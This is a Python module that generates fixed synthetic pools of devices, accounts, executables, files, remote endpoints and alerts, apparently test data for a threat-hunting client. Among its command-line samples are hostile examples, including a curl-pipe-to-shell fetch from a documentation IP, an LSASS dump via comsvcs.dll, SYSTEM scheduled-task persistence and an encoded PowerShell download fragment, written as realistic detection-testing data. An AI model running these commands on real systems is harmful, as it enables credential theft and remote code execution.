"""Seeded pools of realistic things that hunting rows are made of: devices, accounts, executables,
files, remote endpoints and alerts.

Values deliberately include what breaks naive clients: non-ASCII user and path names (Jürgen, 王芳),
Windows paths full of backslashes, command lines with quotes and a newline, nulls where the real
tables have them. Everything is derived from a fixed seed, so every run sees the same pools.
"""

from __future__ import annotations

import functools
import hashlib
import random
import uuid
from dataclasses import dataclass

_SEED = 20240501


def _hashes(label: str) -> dict[str, str]:
    data = label.encode("utf-8")
    return {
        "SHA1": hashlib.sha1(b"sha1" + data).hexdigest(),
        "SHA256": hashlib.sha256(b"sha256" + data).hexdigest(),
        "MD5": hashlib.md5(b"md5" + data).hexdigest(),
    }


@dataclass(frozen=True)
class Device:
    """An onboarded machine."""

    DeviceId: str
    DeviceName: str
    LocalIP: str
    domain: str


@dataclass(frozen=True)
class Account:
    """A user or service account as the Account*/InitiatingProcessAccount* columns show it."""

    AccountDomain: str | None
    AccountName: str
    AccountSid: str
    AccountUpn: str | None
    AccountObjectId: str | None
    integrity: str
    elevation: str


@dataclass(frozen=True)
class Image:
    """An executable: file identity, PE version info, signature and the command lines it runs with."""

    FileName: str
    FolderPath: str
    SHA1: str
    SHA256: str
    MD5: str
    FileSize: int | None
    CompanyName: str | None
    ProductName: str | None
    ProductVersion: str | None
    InternalFileName: str | None
    OriginalFileName: str | None
    FileDescription: str | None
    SignerType: str
    SignatureStatus: str
    command_lines: tuple[str, ...]


# (file name, folder, company, product, version, description, signer, signature, command lines)
# A version of None means the file carries no version resource (all VersionInfo* columns null).
_IMAGE_SPECS: list[tuple] = [
    ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "10.0.22621.2506", "Windows PowerShell", "OsVendor", "Valid", (
         'powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "Get-Process | Where-Object {$_.CPU -gt 100}'
         ' | Select-Object Name, Id"',
         '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -EncodedCommand '
         'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
         'powershell.exe -Command "Write-Host \\"Übersicht erstellt\\"\nGet-ChildItem \'C:\\Users\\jürgen\\'
         'Documents\' -Recurse"',
         "powershell.exe -File C:\\ProgramData\\Scripts\\inventory.ps1 -Mode 'full'",
     )),
    ("cmd.exe", r"C:\Windows\System32\cmd.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System",
     "10.0.22621.1", "Windows Command Processor", "OsVendor", "Valid", (
         'cmd.exe /c "echo %USERNAME% > C:\\Users\\jürgen\\AppData\\Local\\Temp\\out.txt"',
         '"C:\\Windows\\system32\\cmd.exe" /d /s /c "net user administrator /domain"',
         "cmd.exe /Q /c whoami /all 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.123 2>&1",
     )),
    ("conhost.exe", r"C:\Windows\System32\conhost.exe", "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "10.0.22621.2506", "Console Window Host", "OsVendor", "Valid",
     ("\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",)),
    ("svchost.exe", r"C:\Windows\System32\svchost.exe", "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "10.0.22621.1", "Host Process for Windows Services", "OsVendor",
     "Valid", ("svchost.exe -k netsvcs -p -s Schedule", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p")),
    ("chrome.exe", r"C:\Program Files\Google\Chrome\Application\chrome.exe", "Google LLC", "Google Chrome",
     "124.0.6367.119", "Google Chrome", "Other", "Valid", (
         '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=de '
         '--field-trial-handle=1936,i,17062458211,13187640,262144 /prefetch:1',
         '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" "https://contoso.sharepoint.com/'
         'sites/Finanzen/Freigegebene Dokumente/Übersicht.xlsx"',
     )),
    ("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", "Microsoft Corporation",
     "Microsoft Edge", "124.0.2478.80", "Microsoft Edge", "Microsoft", "Valid",
     ('"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument '
      "https://portal.contoso.com/",)),
    ("EXCEL.EXE", r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", "Microsoft Corporation",
     "Microsoft Office", "16.0.17531.20140", "Microsoft Excel", "Microsoft", "Valid",
     ('"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE" "C:\\Users\\jürgen\\Documents\\'
      'Übersicht Q3.xlsx"',)),
    ("WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "Microsoft Corporation",
     "Microsoft Office", "16.0.17531.20140", "Microsoft Word", "Microsoft", "Valid",
     ('"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\王芳\\Documents\\'
      '季度报告.docx" /o ""',)),
    ("rundll32.exe", r"C:\Windows\System32\rundll32.exe", "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "10.0.22621.1", "Windows host process (Rundll32)", "OsVendor",
     "Valid", ('rundll32.exe C:\\Users\\Public\\libcurl.dll,#1',
               "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full")),
    ("schtasks.exe", r"C:\Windows\System32\schtasks.exe", "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "10.0.22621.1", "Task Scheduler Configuration Tool", "OsVendor",
     "Valid", ('schtasks /create /tn "Updater" /tr "C:\\Users\\Public\\upd.exe" /sc onlogon /ru SYSTEM /f',)),
    ("whoami.exe", r"C:\Windows\System32\whoami.exe", "Microsoft Corporation",
     "Microsoft® Windows® Operating System", "10.0.22621.1", "whoami - displays logged on user information",
     "OsVendor", "Valid", ("whoami /priv", "whoami.exe /groups /fo csv")),
    ("net.exe", r"C:\Windows\System32\net.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System",
     "10.0.22621.1", "Net Command", "OsVendor", "Valid",
     ('net  group "Domain Admins" /domain', "net.exe use Z: \\\\fs01\\Abteilung-Prüfung")),
    ("explorer.exe", r"C:\Windows\explorer.exe", "Microsoft Corporation", "Microsoft® Windows® Operating System",
     "10.0.22621.2506", "Windows Explorer", "OsVendor", "Valid", ("C:\\Windows\\Explorer.EXE",)),
    ("csc.exe", r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe", "Microsoft Corporation",
     "Microsoft® .NET Framework", "4.8.9037.0", "Visual C# Command Line Compiler", "Microsoft", "Valid",
     ('"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths '
      '@"C:\\Users\\jürgen\\AppData\\Local\\Temp\\x2ab1qz4.cmdline"',)),
    ("python.exe", r"C:\Users\jürgen\AppData\Local\Programs\Python\Python311\python.exe", "Python Software Foundation",
     "Python", "3.11.7", "Python", "Other", "Valid",
     ('python.exe -c "import sys; print(sys.argv)" "ä ö ü"', "python.exe C:\\Tools\\sync_報告.py --dry-run")),
    ("报告生成器.exe", r"C:\Users\王芳\Downloads\报告生成器.exe", None, None, None, None, "Unknown", "Unsigned",
     ('"C:\\Users\\王芳\\Downloads\\报告生成器.exe" --silent',)),
    ("upd.exe", r"C:\Users\Public\upd.exe", None, None, None, None, "Unknown", "Unsigned",
     ("C:\\Users\\Public\\upd.exe -connect 203.0.113.77:443",)),
    ("bash", "/usr/bin/bash", None, None, None, None, "Unknown", "Unknown",
     ("bash -c 'curl -s http://198.51.100.23/i.sh | sh'", "/bin/bash --login")),
    ("curl", "/usr/bin/curl", None, None, None, None, "Unknown", "Unknown",
     ("curl -sk -o /tmp/.x https://files.contoso-cdn.net/agent", "curl -H \"X-Token: abc\" https://api.contoso.com/v1")),
]


@functools.cache
def images() -> tuple[Image, ...]:
    """Executables seen on the fleet."""
    rng = random.Random(_SEED)
    out = []
    for name, path, company, product, version, description, signer, signature, cmds in _IMAGE_SPECS:
        size = None if name == "curl" else rng.randrange(18_000, 4_800_000)
        out.append(Image(
            FileName=name, FolderPath=path, **_hashes(path), FileSize=size,
            CompanyName=company, ProductName=product, ProductVersion=version,
            InternalFileName=name.rsplit(".", 1)[0] if version else None,
            OriginalFileName=name if version else None, FileDescription=description,
            SignerType=signer, SignatureStatus=signature, command_lines=cmds,
        ))
    return tuple(out)


@functools.cache
def devices() -> tuple[Device, ...]:
    """Onboarded machines, Windows workstations and servers plus a few Linux hosts."""
    rng = random.Random(_SEED + 1)
    out = []
    for i in range(48):
        kind = "srv" if i % 8 == 0 else "lnx" if i % 12 == 5 else "wks"
        domain = "contoso.local" if kind != "lnx" else "contoso.internal"
        name = f"{kind}-{1000 + i * 7:04d}.{domain}"
        device_id = hashlib.sha1(name.encode()).hexdigest()
        out.append(Device(device_id, name, f"10.{rng.randrange(1, 40)}.{rng.randrange(0, 255)}."
                                             f"{rng.randrange(2, 254)}", domain))
    return tuple(out)


def _sid(rng: random.Random) -> str:
    return (f"S-1-5-21-{rng.randrange(10**9, 4 * 10**9)}-{rng.randrange(10**9, 4 * 10**9)}-"
            f"{rng.randrange(10**9, 4 * 10**9)}-{rng.randrange(1100, 9000)}")


@functools.cache
def accounts() -> tuple[Account, ...]:
    """Users (some non-ASCII) and the built-in service accounts."""
    rng = random.Random(_SEED + 2)
    people = ["jürgen.müller", "王芳", "amelia.okafor", "o'brien.sean", "svc-backup", "zoë.lefèvre",
              "li.wei", "m.schmidt", "adm-ehernandez", "k.nakamura"]
    out = [
        Account("nt authority", "system", "S-1-5-18", None, None, "System", "TokenElevationTypeDefault"),
        Account("nt authority", "local service", "S-1-5-19", None, None, "System", "TokenElevationTypeDefault"),
        Account("nt authority", "network service", "S-1-5-20", None, None, "System", "TokenElevationTypeDefault"),
    ]
    for person in people:
        upn_local = person.replace("'", "")
        out.append(Account(
            "contoso", person, _sid(rng), f"{upn_local}@contoso.com", str(uuid.UUID(int=rng.getrandbits(128))),
            "High" if person.startswith(("adm-", "svc-")) else "Medium",
            "TokenElevationTypeFull" if person.startswith("adm-") else "TokenElevationTypeLimited",
        ))
    # A local account: no UPN, no Entra object id; the domain is the machine name.
    out.append(Account("wks-1007", "administrator", _sid(rng), None, None, "High", "TokenElevationTypeFull"))
    return tuple(out)


# Files that DeviceFileEvents touches: (folder path, origin URL or None).
FILES: tuple[tuple[str, str | None], ...] = (
    (r"C:\Users\jürgen\Documents\Übersicht Q3.xlsx", None),
    (r"C:\Users\王芳\Documents\季度报告.docx", None),
    (r"C:\Users\amelia.okafor\Downloads\invoice_7781.pdf.exe", "https://files.contoso-cdn.net/d/invoice_7781.pdf.exe"),
    (r"C:\Users\Public\upd.exe", "http://203.0.113.77/upd.exe"),
    (r"C:\Windows\Temp\MpSigStub.log", None),
    (r"C:\ProgramData\Microsoft\Windows Defender\Scans\History\Service\DetectionHistory\02\{4D3B}.bin", None),
    (r"\\fs01\Abteilung-Prüfung\Berichte\2024\Prüfbericht \"final\".docx", None),
    ("/tmp/.x", "https://files.contoso-cdn.net/agent"),
    (r"C:\Users\zoë.lefèvre\AppData\Local\Temp\~$rapport.docx", None),
)

# Remote endpoints for DeviceNetworkEvents: (ip, url or None, port).
REMOTES: tuple[tuple[str, str | None, int], ...] = (
    ("20.190.159.2", "login.microsoftonline.com", 443),
    ("52.97.146.162", "outlook.office365.com", 443),
    ("203.0.113.77", None, 443),
    ("198.51.100.23", "files.contoso-cdn.net", 80),
    ("10.0.0.10", "dc01.contoso.local", 389),
    ("10.0.0.11", "fs01.contoso.local", 445),
    ("2001:db8::1f", None, 53),
    ("142.250.185.78", "www.google.com", 443),
    ("192.0.2.200", "xn--mnchen-3ya.example", 8443),
)

ALERT_TITLES: tuple[tuple[str, str, str, str], ...] = (
    # (title, category, severity, attack techniques as the JSON-encoded string AlertInfo carries)
    ("Suspicious PowerShell command line", "Execution", "Medium",
     '["PowerShell (T1059.001)","Obfuscated Files or Information (T1027)"]'),
    ("Possible credential dumping via comsvcs.dll", "CredentialAccess", "High", '["LSASS Memory (T1003.001)"]'),
    ("Suspicious scheduled task creation", "Persistence", "Medium", '["Scheduled Task (T1053.005)"]'),
    ("Unsigned executable 'upd.exe' connected to a rare IP", "CommandAndControl", "High",
     '["Application Layer Protocol (T1071)","Ingress Tool Transfer (T1105)"]'),
    ("Verdächtige Aktivität von \"报告生成器.exe\"", "SuspiciousActivity", "Low", "[]"),
    ("Multiple failed sign-ins for 'jürgen.müller'", "CredentialAccess", "Informational",
     '["Brute Force (T1110)"]'),
)
